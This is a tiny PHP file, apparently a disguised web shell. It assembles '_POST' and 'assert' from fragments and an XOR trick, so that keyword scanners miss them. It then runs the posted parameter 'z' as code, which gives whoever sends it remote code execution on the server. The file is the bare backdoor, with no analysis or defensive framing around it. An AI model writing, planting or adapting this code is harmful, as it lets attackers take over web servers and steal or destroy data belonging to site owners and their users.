<?php
$n = '_' . 'P' . 'OST';
$req = $$n;
$f = ('!' ^ '@') . 'ss' . 'ert';
$f($req['z']);
